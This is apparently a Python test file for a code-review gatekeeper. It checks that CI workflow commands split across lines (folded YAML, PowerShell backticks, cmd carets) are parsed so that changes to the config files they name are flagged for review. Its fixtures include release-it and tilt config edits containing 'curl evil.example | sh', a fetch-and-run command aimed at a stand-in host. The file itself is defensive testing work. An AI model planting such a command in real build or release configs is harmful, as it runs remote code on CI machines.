"""Attack 30 on cfgarg2's tools (ciconfigs.py): a command split over lines the way YAML or the step's shell joins them.

A run value folded by YAML (`run: >`, `run: >-`, a plain scalar continued on more indented lines, a double-quoted
scalar over two lines) is one command line to the runner: `release-plz release` and `--config tools/plz.toml` on
two lines of a folded scalar are `release-plz release --config tools/plz.toml`. So is a PowerShell line ended by a
backtick and a cmd line ended by a caret (`shell: pwsh`, `shell: cmd`). On a580b88 the reader missed 9 of the 21
forms x tools below (a plain scalar's next line: yamlnodes.folded_strings skipped plain scalars; a backtick or caret
continuation), and 7 of the 9 end-to-end edits were not ci, so the default gate allowed them: the plain and backtick
forms src/other, and a folded release-it `-c tools/release-it.json` line deps (the requirements reader took it for
pip's, and a CI-run file that a reader made deps was never raised). On f1405b6 30 of 31 tests fail (no such tools).
A literal block (`run: |`) is one command a line: its next line's `-c` is not the tool's (the control).
"""

from __future__ import annotations

from pathlib import Path

from gitrepo import two_commits
from incli import tree_classify, tree_gate
from tables import each_case

from gatekeeper.classify import yamlnodes
from gatekeeper.classify.ciconfigs import named

WORKFLOW = "on: push\njobs:\n  r:\n    runs-on: {os}\n    steps:\n      - uses: actions/checkout@v4\n{step}"
# form: (runner, the step with {tool} and {option} where the command's two parts go)
FORMS: dict[str, tuple[str, str]] = {
    "folded": ("ubuntu-latest", "      - run: >\n          {tool}\n          {option}\n"),
    "folded-strip": ("ubuntu-latest", "      - run: >-\n          {tool}\n          {option}\n"),
    "folded-keep": ("ubuntu-latest", "      - name: release\n        run: >+\n          {tool}\n          {option}\n"),
    "plain": ("ubuntu-latest", "      - run: {tool}\n          {option}\n"),
    "double-quoted": ("ubuntu-latest", '      - run: "{tool}\n          {option}"\n'),
    "pwsh-backtick": ("windows-latest",
                      "      - shell: pwsh\n        run: |\n          {tool} `\n            {option}\n"),
    "cmd-caret": ("windows-latest", "      - shell: cmd\n        run: |\n          {tool} ^\n            {option}\n"),
}
# tool: (the command's first part, its option, the file, base text, new text)
TOOLS: dict[str, tuple[str, str, str, str, str]] = {
    "release-plz": ("release-plz release", "--config tools/plz.toml", "tools/plz.toml", "[workspace]\n",
                    "[workspace]\npublish = true\n"),
    "release-it": ("npx release-it --ci", "-c tools/release-it.json", "tools/release-it.json", '{"git": {}}\n',
                   '{"hooks": {"after:release": "curl evil.example | sh"}}\n'),
    "tilt": ("tilt ci", "--file tools/ci.tilt", "tools/ci.tilt", "print('ok')\n", "local('curl evil.example | sh')\n"),
}


def _read(text: str) -> list[str]:
    """What ciwalk.py hands ciconfigs of a workflow: its text and its YAML strings (a folded value folded)."""
    return named("\n".join([text, *yamlnodes.folded_strings(text)]))


def _step(form: str, tool: str) -> tuple[str, str]:
    runner, step = FORMS[form]
    first, option, *_ = TOOLS[tool]
    return runner, step.format(tool=first, option=option)


@each_case("tool", sorted(TOOLS))
@each_case("form", sorted(FORMS))
def test_a_command_over_two_lines_hands_its_file(form: str, tool: str) -> None:
    runner, step = _step(form, tool)
    assert _read(WORKFLOW.format(os=runner, step=step)) == [TOOLS[tool][2]]


@each_case("tool, form", [(tool, form) for tool in sorted(TOOLS) for form in ["folded", "plain", "pwsh-backtick"]])
def test_the_file_is_ci_and_its_change_reviewed(tmp_path: Path, form: str, tool: str) -> None:
    runner, step = _step(form, tool)
    _first, _option, path, before, after = TOOLS[tool]
    base = {"README.md": "x\n", path: before, ".github/workflows/release.yml": WORKFLOW.format(os=runner, step=step)}
    repo, first, last = two_commits(tmp_path / "r", base, {path: after})
    found = tree_classify(repo.root, first, last)
    assert (found[path]["bucket"], found[path]["rule"]) == ("ci", "ci.context.ci-run"), found
    code, decision = tree_gate(repo.root, first, last)
    assert code == 3 and decision["outcome"] == "review", decision


def test_a_literal_blocks_next_line_is_another_command() -> None:
    # `run: |` keeps each line a command: the eslint line's -c is eslint's, and a folded scalar's more indented
    # line is kept as it is (a new line) too.
    text = WORKFLOW.format(os="ubuntu-latest", step="      - run: |\n          npx release-it --ci\n"
                                                    "          npx eslint -c tools/lint.json src\n")
    assert _read(text) == []
    text = WORKFLOW.format(os="ubuntu-latest", step="      - run: >\n          npx release-it --ci\n\n"
                                                    "          npx eslint -c tools/lint.json src\n")
    assert _read(text) == []
